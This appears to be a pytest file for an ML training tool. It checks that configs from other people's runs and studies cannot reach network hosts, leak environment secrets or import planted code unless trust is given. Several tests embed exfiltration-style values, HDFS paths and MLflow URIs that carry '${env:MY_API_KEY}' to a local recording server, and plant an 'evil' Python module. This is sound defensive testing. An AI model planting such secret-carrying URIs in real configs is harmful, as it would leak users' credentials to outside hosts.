"""Where the config of a run leads: to hosts, with the user's secrets, only for own runs or with trust."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
import yaml

import trainwright
from small_runs import reseal
from trainwright.digest import sha256_json
from trainwright.errors import CheckpointError, InputError, TrainwrightError
from trainwright.records.run_dir import RunDir
from trainwright.records.trials import TrialLog, read_trials
from trainwright.runs.run import Run
from trainwright.studies.study import Study

pytestmark = pytest.mark.slow
SECRET = "sk-12345-of-the-user"
ROWS = "a,b,y\n" + "".join(f"{i},{i * i % 7},{2 * i + i % 3}\n" for i in range(80))
CONFIG: dict[str, Any] = {
    "experiment": {"name": "table", "seed": 1},
    "data": {"type": "csv", "path": "rows.csv", "target": "y"},
    "model": {"type": "ridge"},
}


class Host(ThreadingHTTPServer):
    """A host that writes down what it is asked for."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                asked.append(self.path)
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_PUT = do_POST = do_HEAD = answer

            def log_message(self, *_: Any) -> None: ...

        super().__init__(("127.0.0.1", 0), Handler)
        Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_port}"


@pytest.fixture
def host() -> Iterator[Host]:
    server = Host()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A completed run."""
    folder = tmp_path_factory.mktemp("made")
    (folder / "rows.csv").write_text(ROWS)
    data = CONFIG["data"] | {"path": str(folder / "rows.csv")}
    return trainwright.train(CONFIG | {"data": data}, runs_dir=folder / "runs").path


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's working directory, with rows, and a secret in the environment."""
    folder = tmp_path / "here"
    folder.mkdir()
    (folder / "rows.csv").write_text(ROWS)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("MY_API_KEY", SECRET)
    monkeypatch.setenv("HADOOP_USER_NAME", "tester")
    return folder


def foreign(source: Path, runs: Path, **sections: Any) -> Run:
    """A copy of a run in a folder of runs, with other sections, by someone who keeps all records whole."""
    path = runs / source.parent.name / source.name
    shutil.copytree(source, path)
    config = yaml.safe_load((path / "config.yaml").read_text())
    for name, values in sections.items():
        config[name] = {**config[name], **values} if isinstance(values, dict) else values
    (path / "config.yaml").write_text(yaml.safe_dump(config))
    for file in [*path.glob("*/step-*/manifest.json"), path / "manifest.json"]:
        is_run = file.parent == path
        edit(file, **({"config_sha256": RunDir(path).config_sha256()} if is_run else {"run_files": {}}))
    reseal(path)
    return Run(path)


def edit(file: Path, **values: Any) -> None:
    data = json.loads(file.read_text()) | values
    data.pop("sha256", None)
    file.write_text(json.dumps(data | {"sha256": sha256_json(data)}))


VERBS: dict[str, Callable[..., Any]] = {
    "evaluate": trainwright.evaluate,
    "explain": trainwright.explain,
    "reproduce": trainwright.reproduce,
    "resume": lambda run, **how: trainwright.resume(run, ["training.max_steps=2"], **how),
    "fork": lambda run, **how: trainwright.fork(run, ["experiment.seed=2"], **how),
}


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("place", ["runs", "../theirs"])
def test_no_verb_asks_a_host_that_a_foreign_run_names(
    verb: str, place: str, made: Path, here: Path, host: Host
) -> None:
    path = f"hdfs://{host.address}/${{env:MY_API_KEY}}/rows.csv"
    run = foreign(made, here / place, data={"path": path})
    with pytest.raises(InputError) as caught:
        VERBS[verb](run)
    assert host.asked == []
    assert "--trust" in str(caught.value) or verb == "resume"
    if verb in ("evaluate", "reproduce"):
        with pytest.raises(TrainwrightError):
            VERBS[verb](run, trust=True)
        assert any(SECRET in path for path in host.asked)  # the attack would have succeeded


def test_intervals_of_a_foreign_run_come_from_the_residuals_in_it(made: Path, here: Path, host: Host) -> None:
    run = foreign(made, here / "theirs", data={"path": f"hdfs://{host.address}/rows.csv"})
    assert {"lower", "upper"} <= set(trainwright.predict(run, "rows.csv", interval=0.5).columns)
    (run.path / "evaluation" / "residuals.json").unlink()
    with pytest.raises(InputError, match="--trust"):
        trainwright.predict(run, "rows.csv", interval=0.5)
    assert host.asked == []


def test_compare_and_why_ask_no_host_of_a_foreign_run(made: Path, here: Path, host: Host) -> None:
    own = Run(made)
    run = foreign(
        made, here / "theirs", data={"path": f"hdfs://{host.address}/rows.csv"}, model={"params": {}}
    )
    run = Run(run.path.rename(run.path.with_name("20260101-000000-00000000")))
    result = RunDir(run.path).require_result()
    RunDir(run.path).write(
        result.FILE, result.model_copy(update={"digest": "0" * 64})
    )  # so that it is tested
    said = trainwright.compare(own, run).untested
    assert "--trust" in str(said)
    with pytest.raises(InputError, match="--trust"):
        trainwright.why(own, run)
    assert host.asked == []


def test_a_copy_of_a_run_is_no_second_run(made: Path, here: Path) -> None:
    copy = foreign(made, here / "theirs")
    with pytest.raises(InputError, match=f"{copy.path} is a copy of run {made.name}"):
        trainwright.why(made, copy)
    with pytest.raises(InputError, match="is given twice"):
        trainwright.why(made, made)


def test_the_trackers_of_a_foreign_run_get_nothing_without_trust(made: Path, here: Path, host: Host) -> None:
    tracking = [{"type": "mlflow", "params": {"uri": f"http://{host.address}/${{env:MY_API_KEY}}"}}]
    run = foreign(made, here / "runs", tracking=tracking)
    for verb in (trainwright.sync, trainwright.reproduce):
        with pytest.raises(InputError, match=r"(?s)\$\{env:MY_API_KEY\}.*--trust"):
            verb(run)
    assert host.asked == []


def test_a_foreign_study_is_resumed_only_with_trust(here: Path, host: Host) -> None:
    search = {"trials": 2, "sampler": "random", "space": {"model.params.alpha": [0.1, 1.0]}}
    study = trainwright.tune(CONFIG | {"tuning": search})
    kept = study.path / "search.yaml"
    before = kept.read_text()
    kept.write_text(kept.read_text().replace("rows.csv", f"hdfs://{host.address}/${{env:MY_API_KEY}}.csv"))
    with pytest.raises(InputError, match=r"(?s)hdfs://.*--trust"):
        trainwright.resume_study(study.path.name, ["tuning.trials=3"])
    kept.write_text("extends: other.yaml\n" + before)
    tracking = [{"type": "mlflow", "params": {"uri": f"http://{host.address}/${{env:MY_API_KEY}}"}}]
    (study.path / "other.yaml").write_text(yaml.safe_dump({"tracking": tracking}))
    Study(study.path).update(files={})  # whoever writes it can leave out its seals
    for verb in (trainwright.resume_study, trainwright.reproduce_study, trainwright.work_study):
        with pytest.raises(InputError, match=r"(?s)other\.yaml.*--trust"):
            verb(study.path.name)
    assert host.asked == []


def test_the_log_of_a_study_sets_only_what_is_searched(here: Path, host: Host) -> None:
    """Its checksums prove nothing: whoever writes it can make them."""
    search = {"trials": 2, "sampler": "random", "space": {"model.params.alpha": [0.1, 1.0]}}
    study = trainwright.tune(CONFIG | {"tuning": search})
    (trial, *_) = read_trials(study.path)
    uri = f"http://{host.address}/${{env:MY_API_KEY}}"
    for params in ({"tracking": [{"type": "mlflow", "params": {"uri": uri}}]}, {"model.params.alpha": uri}):
        for file in study.path.glob("trials.*"):
            file.unlink()
        log = TrialLog(study.path)
        log.begin(trial._replace(params=trial.params | params, ending=None))
        log.close()
        Study(study.path).update(status="interrupted", files={})
        with pytest.raises(CheckpointError, match=r"trials\.jsonl is damaged: trial 0 sets"):
            trainwright.resume_study(study.path.name, ["tuning.trials=3"])
    assert host.asked == []


def test_ones_own_run_uses_its_variables_where_it_was_made(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROWS", "rows.csv")
    run = trainwright.train(CONFIG | {"data": CONFIG["data"] | {"path": "${env:ROWS}"}})
    metrics = trainwright.evaluate(run)
    assert trainwright.reproduce(run).verdict == "identical"
    moved = here / "moved" / "table" / run.id
    shutil.copytree(run.path, moved)  # as it would be if someone else had sent it
    with pytest.raises(InputError, match=r"data\.path: \$\{env:ROWS\} is not used.*(?s:.*)--trust"):
        trainwright.evaluate(moved)
    assert trainwright.evaluate(moved, trust=True) == metrics


def test_a_url_that_the_user_gives_is_asked(made: Path, here: Path, host: Host) -> None:
    run = foreign(made, here / "runs", data={"path": "hdfs://elsewhere.invalid/rows.csv"})
    with pytest.raises(TrainwrightError) as caught:
        trainwright.fork(run, [f"data.path=hdfs://{host.address}/${{env:MY_API_KEY}}.csv"])
    assert "--trust" not in str(caught.value)
    assert host.asked


def test_a_folder_of_runs_is_no_project(made: Path, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code = f"from pathlib import Path\nPath({str(here / 'ran')!r}).touch()\n"
    run = foreign(made, here / "runs", model={"type": "evil_of_runs:Net", "framework": "torch"})
    for folder in (here / "runs", run.path.parent, run.path):
        (folder / "evil_of_runs.py").write_text(code)
        monkeypatch.chdir(folder)
        with pytest.raises(InputError, match="--trust"):
            trainwright.evaluate(run, runs_dir=here / "runs")
    assert not (here / "ran").exists()
